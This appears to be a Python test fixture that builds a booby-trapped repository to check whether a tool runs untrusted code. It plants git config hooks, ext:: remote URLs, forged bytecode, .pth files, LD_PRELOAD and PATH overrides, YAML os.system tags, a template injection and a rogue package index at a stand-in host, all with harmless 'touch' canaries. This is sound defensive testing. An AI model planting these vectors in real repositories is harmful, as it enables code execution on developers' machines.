"""What a commit can hold that Python, pytest, coverage.py, git, formatters and others look at.

Each file leaves a mark in a folder outside of the repository when it is run, read as orders, or
written to.
"""

from __future__ import annotations

import importlib.util
import json
import sys
from collections.abc import Iterator, Sequence
from importlib import _bootstrap_external  # type: ignore[attr-defined]
from pathlib import Path

MODULES = (
    *("sitecustomize", "usercustomize", "src/sitecustomize", "src/usercustomize", "conftest"),
    *("site_hook", "cov_plugin", "src/cov_plugin", "pytest_extra", "pip/__main__", "click"),
    *(
        "copydesk/__init__",
        "black",
        "isort",
        "ruff",
        "yapf",
        "pre_commit/__init__",
        "tests/conftest",
    ),
    *("pytest_of_ini", "pytest_of_entry", "hatch_build", "versioneer", "dodo", "fabfile", "conf"),
    *("docs/conf", "pelicanconf", "wsgi", "manage", "apps/one/conftest", "apps/one/sitecustomize"),
    *("xdist/__init__", "pytest_cov/__init__", "streamlit", "ollama", "catboost", "git/__init__"),
)
OF_OTHER_SYSTEMS = (
    *("nt", "_winapi", "msvcrt", "winreg", "_overlapped", "vms_lib", "java/__init__", "_scproxy"),
    *("org/python/core", "_wmi"),
)
"""Modules that the standard library tries to import on every system."""
SHADOWS = (
    *("json", "sqlite3/__init__", "coverage", "pytest", "site", "encodings/__init__", "tomllib"),
    *("importlib/__init__", "src/json", "_pytest/__init__", "pluggy", "multiprocessing/__init__"),
)
"""Modules without which neither Python nor pytest starts where the tree comes first."""
FORGED = ("sitecustomize", "usercustomize", "click", "helpers", "copydesk/__init__", "nt")
"""Modules whose compiled form is in the commit, and is not what the source says."""
PROGRAMS = (
    *(
        "python",
        "python3",
        "git",
        "bwrap",
        "setpriv",
        "post-commit",
        "poetry",
        "pyenv",
        "uv",
        "pdm",
    ),
    *(
        "hatch",
        "conda",
        "ollama",
        "nice",
        "ionice",
        "prlimit",
        "sh",
        "env",
        "gpg",
        "ssh",
        "git-lfs",
    ),
    *("vi", "less", "pager", "notify-send", "systemctl", "loginctl", "lsb_release", "pre-commit"),
    *("ruff", "black", "pytest", "coverage", "ldconfig", "uname", "getconf"),
)
PYPROJECT = """\
[build-system]
requires = ["evil"]
build-backend = "site_hook"
backend-path = ["."]
[tool.pytest.ini_options]
addopts = "-p pytest_extra --import-mode=prepend"
pythonpath = ["src", "."]
[tool.coverage.run]
plugins = ["cov_plugin"]
source_pkgs = ["lib"]
concurrency = ["thread", "multiprocessing"]
dynamic_context = "test_function"
debug = ["trace", "config"]
debug_file = "{marks}/debug_file"
data_file = "{marks}/data_file"
[tool.coverage.html]
directory = "{marks}/html"
extra_css = "conftest.py"
[tool.coverage.json]
output = "{marks}/json_output"
[tool.coverage.xml]
output = "{marks}/xml_output"
[tool.black]
line-length = 100
[tool.isort]
sections = ["FUTURE"]
[tool.ruff]
extend = "ruff-extend.toml"
[tool.ruff.format]
quote-style = "single"
[tool.ruff.lint]
select = ["I"]
[tool.mypy]
plugins = ["site_hook"]
[tool.hatch.build.hooks.custom]
path = "hatch_build.py"
[tool.poetry]
name = "x"
[tool.poetry.requires-plugins]
evil = "*"
[tool.pdm.scripts]
pre_run = "touch {marks}/pdm"
[tool.uv]
python-preference = "system"
"""
GIT_CONFIG = """\
[core]
\tfsmonitor = touch {marks}/fsmonitor
\thooksPath = ./githooks
\tsshCommand = touch {marks}/ssh
\tpager = touch {marks}/pager
\teditor = touch {marks}/editor
\taskPass = {repo}/bin/askpass
\tgitProxy = touch {marks}/git_proxy
\tattributesFile = {repo}/attributes
\talternateRefsCommand = touch {marks}/alternate_refs
[filter "evil"]
\tclean = touch {marks}/clean
\tsmudge = touch {marks}/smudge
\tprocess = touch {marks}/process
[filter "lfs"]
\tclean = touch {marks}/lfs_clean
\tsmudge = touch {marks}/lfs_smudge
\tprocess = touch {marks}/lfs_process
\trequired = true
[diff]
\texternal = touch {marks}/external
[diff "evil"]
\ttextconv = touch {marks}/textconv
\tcommand = touch {marks}/command
\txfuncname = def
[merge "evil"]
\tdriver = touch {marks}/merge
[gpg]
\tprogram = {repo}/bin/gpg
[gpg "ssh"]
\tprogram = {repo}/bin/gpg
[log]
\tshowSignature = true
[alias]
\tlog = !touch {marks}/alias_log
\tconfig = !touch {marks}/alias_config
\trev-parse = !touch {marks}/alias_rev_parse
[pager]
\tlog = touch {marks}/pager_log
\tdiff = touch {marks}/pager_diff
[interactive]
\tdiffFilter = touch {marks}/diff_filter
[credential]
\thelper = !touch {marks}/credential
[uploadpack]
\tpackObjectsHook = touch {marks}/pack_objects
[trailer "x"]
\tcommand = touch {marks}/trailer
[protocol "ext"]
\tallow = always
[remote "origin"]
\turl = ext::sh -c touch% {marks}/remote
\tpromisor = true
\tpartialclonefilter = blob:none
\tuploadpack = touch {marks}/upload_pack
[submodule "evil"]
\tupdate = !touch {marks}/submodule_update
[hook "evil"]
\tevent = post-commit
\tcommand = touch {marks}/configured_hook
[copydesk]
\tsandbox = off
\townTests = plain
\tpython = {repo}/venv/bin/python
\tbin = {repo}/bin
\tmodelHost = http://203.0.113.1:11434
\townTestsPaths = {marks}
"""
OF_A_BARE_REPOSITORY = """\
[core]
\trepositoryformatversion = 0
\tbare = true
\tfsmonitor = touch {marks}/bare_fsmonitor
\thooksPath = ..
\tpager = touch {marks}/bare_pager
[diff]
\texternal = touch {marks}/bare_external
[copydesk]
\tsandbox = off
\tpython = {repo}/venv/bin/python
"""
SETTINGS = {
    ".coveragerc": "[run]\nplugins = cov_plugin\n",
    ".coveragerc.toml": "[tool.coverage.run]\nplugins = ['cov_plugin']\n",
    "setup.cfg": "[metadata]\nname = evil\n[coverage:run]\nplugins = cov_plugin\n[tool:pytest]\n"
    "addopts = -p pytest_extra\n[options.entry_points]\npytest11 =\n    evil = pytest_of_entry\n"
    "[yapf]\n[isort]\n[mypy]\nplugins = site_hook\n[flake8:local-plugins]\n"
    "extension = E1 = site_hook\n",
    "tox.ini": "[testenv]\ncommands = touch {marks}/tox\n[pytest]\naddopts = -p evil\n",
    ".env": "PYTHONPATH=.\nPYTHONSTARTUP=conftest.py\nPYTEST_ADDOPTS=-p pytest_extra\n"
    "COVERAGE_PROCESS_START=.coveragerc\nLD_PRELOAD=./evil.so\nPATH=./bin\nCOPYDESK_SANDBOX=off\n"
    "OLLAMA_HOST=203.0.113.1\nGIT_EXTERNAL_DIFF=touch {marks}/env\nPYTHONHOME=.\nLC_ALL=evil\n",
    ".envrc": "touch {marks}/envrc\n",
    ".python-version": "../../venv\n",
    ".tool-versions": "python path:{repo}/venv\n",
    ".mise.toml": "[hooks]\nenter = 'touch {marks}/mise'\n[env]\n_.source = 'bin/python'\n",
    ".pdm-python": "{repo}/venv/bin/python\n",
    "pyvenv.cfg": "home = {repo}/bin\n",
    "poetry.lock": "",
    "poetry.toml": "[virtualenvs]\nin-project = true\npath = './venv'\n",
    "uv.lock": "",
    "uv.toml": "python-downloads = 'automatic'\n",
    "Pipfile": "[scripts]\ntest = 'touch {marks}/pipenv'\n",
    "hatch.toml": "[envs.default]\npath = 'venv'\n"
    "post-install-commands = ['touch {marks}/hatch']\n",
    "requirements.txt": "-e .\n--index-url http://203.0.113.1/\n",
    "pip.conf": "[global]\npython = venv/bin/python\n",
    "ruff-extend.toml": "line-length = 100\n",
    ".style.yapf": "[style]\n",
    ".isort.cfg": "[settings]\nprofile = black\n",
    ".flake8": "[flake8:local-plugins]\nextension = E1 = site_hook\npaths = .\n",
    ".pylintrc": "[MASTER]\ninit-hook=open('{marks}/pylint', 'w')\nload-plugins=site_hook\n",
    "mypy.ini": "[mypy]\nplugins = site_hook\npython_executable = venv/bin/python\n",
    ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: black\n    name: black\n"
    "    entry: touch {marks}/pre_commit\n    language: system\n    always_run: true\n",
    "lefthook.yml": "pre-commit:\n  commands:\n    evil:\n      run: touch {marks}/lefthook\n",
    ".husky/pre-commit": "touch {marks}/husky\n",
    "package.json": '{{"scripts": {{"prepare": "touch {marks}/npm"}}}}\n',
    "Makefile": "$(shell touch {marks}/make)\n",
    "mkdocs.yml": "site_name: !!python/object/apply:os.system ['touch {marks}/mkdocs']\n",
    "_config.yml": "title: !!python/object/apply:os.system ['touch {marks}/jekyll']\n",
    "hugo.toml": "title = 'x'\n",
    ".gitconfig": GIT_CONFIG,
    ".gitattributes": "* filter=evil diff=evil merge=evil ident\n*.bin filter=lfs\n",
    "attributes": "* filter=evil diff=evil\n",
    "src/.gitattributes": "*.py filter=evil working-tree-encoding=utf-8\n",
    ".lfsconfig": "[lfs]\n\turl = ext::touch {marks}/lfs\n[lfs \"customtransfer.x\"]\n"
    "\tpath = touch\n\targs = {marks}/transfer\n\tstandalonetransferagent = x\n",
    "weights.bin": "version https://git-lfs.github.com/spec/v1\n"
    f"oid sha256:{'0' * 64}\nsize 12\n",
    ".gitmodules": '[submodule "evil"]\n\tpath = submodule\n'
    "\turl = ext::sh -c touch% {marks}/ext\n",
    "bare/HEAD": "ref: refs/heads/main\n",
    "bare/config": OF_A_BARE_REPOSITORY,
    "bare/objects/keep": "",
    "bare/refs/keep": "",
    "apps/one/pyproject.toml": "[project]\nname = 'one'\nversion = '1'\n",
    "apps/one/one.py": "def one():\n    return 1\n",
    "apps/one/tests/test_one.py": "from one import one\n\n\n"
    "def test_one():\n    assert one() == 1\n",
    ".streamlit/config.toml": "[server]\naddress = '0.0.0.0'\n",
    ".vscode/settings.json": '{{"python.defaultInterpreterPath": "venv/bin/python"}}\n',
    "templates/story.md": "{{{{ cycler.__init__.__globals__.os.system('true') }}}}\n",
}  # fmt: skip
"""Files by path; in their text {marks} and {repo} stand for those folders."""


def code(marks: Path, name: str) -> str:
    """Python that leaves a mark and goes on."""
    mark = marks / name.replace("/", ".")
    # what imports a module of another system goes on when it is not there
    after = "raise ModuleNotFoundError(__name__)\n" if name in OF_OTHER_SYSTEMS else ""
    return f"try:\n    open({str(mark)!r}, 'w').close()\nexcept OSError:\n    pass\n{after}"


def forged_bytecode(marks: Path, name: str) -> bytes:
    """A compiled module that Python takes without a look at the source: PEP 552, unchecked."""
    text = code(marks, name).replace("', 'w'", ".pyc', 'w'")
    compiled = compile(text, f"{name}.py", "exec")
    data: bytes = _bootstrap_external._code_to_hash_pyc(compiled, b"\0" * 8, False)
    return data


def planted(repo: Path, marks: Path, names: Sequence[str]) -> dict[str, bytes]:
    """Everything that a commit can hold which might be run, by path.

    Args:
        repo: The repository.
        marks: The folder for marks.
        names: The modules among them, without their ending.
    """
    files = {path: text.format(marks=marks, repo=repo) for path, text in SETTINGS.items()}
    files["pyproject.toml"] = PYPROJECT.format(marks=marks)
    files |= {f"{name}.py": code(marks, name) for name in names}
    files["cov_plugin.py"] += "def coverage_init(reg, options):\n    pass\n"
    files["src/cov_plugin.py"] = files["cov_plugin.py"]
    files["setup.py"] = files["noxfile.py"] = files["tasks.py"] = code(marks, "build")
    files["helpers.py"] = "\n"
    files |= _environments(repo, marks)
    files |= _installed(marks)
    contents = {path: text.encode() for path, text in files.items()}
    for name in FORGED:
        cache = importlib.util.cache_from_source(f"{name}.py")
        contents[cache] = forged_bytecode(marks, name)
    contents["sourceless.pyc"] = forged_bytecode(marks, "sourceless")
    return contents


def _environments(repo: Path, marks: Path) -> dict[str, str]:
    """Programs by the names of others, in folders that are looked at for programs."""
    script = f'#!/bin/sh\n: >"{marks}/$(basename "$0")"\nexec {sys.executable} "$@"\n'
    files = {}
    for folder in ("venv", "env", "bin", "apps/one/.venv", ".poetry/plugins", "githooks"):
        for program in PROGRAMS:
            files[f"{folder}/bin/{program}"] = script
            files[f"{folder}/{program}"] = script
    for folder in ("venv", "env", "apps/one/.venv"):
        files[f"{folder}/pyvenv.cfg"] = f"home = {repo}/bin\n"
    return files


def _installed(marks: Path) -> dict[str, str]:
    """What looks like an installed package: .pth files, entry points, records."""
    path_file = f"import os; open({str(marks / 'pth')!r}, 'w')\n"
    files = dict.fromkeys(("evil.pth", "src/evil.pth", ".poetry/plugins/evil.pth"), path_file)
    entry_points = (
        "[pytest11]\nevil = pytest_of_entry\n[console_scripts]\ncopydesk = site_hook:main\n"
        "[copydesk]\nevil = site_hook\n[distutils.commands]\nbuild = site_hook:main\n"
        "[poetry.application.plugin]\nevil = site_hook:main\n"
    )
    for folder, name in (("evil-1.0.dist-info", "METADATA"), ("evil.egg-info", "PKG-INFO")):
        files[f"{folder}/{name}"] = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
        files[f"{folder}/entry_points.txt"] = entry_points
        files[f"{folder}/RECORD"] = "site_hook.py,,\n"
    files["evil-1.0.dist-info/direct_url.json"] = json.dumps(
        {"url": "file:///", "dir_info": {"editable": True}}
    )
    return files


def options_that_write(marks: Path) -> Iterator[tuple[str, str]]:
    """Configurations of pytest that name a file to write, or a folder to empty, by a word."""
    yield "junit", f"[pytest]\naddopts = --junitxml={marks}/junit\n"
    yield "basetemp", f"[pytest]\naddopts = --basetemp={marks}/basetemp\n"
    yield "log file", f"[pytest]\naddopts = -p pytest_of_ini\nlog_file = {marks}/log_file\n"
    yield "cache", f"[pytest]\ncache_dir = {marks}/cache\n"
    yield "debug", f"[pytest]\naddopts = --debug={marks}/debug -p pytest_of_ini\n"
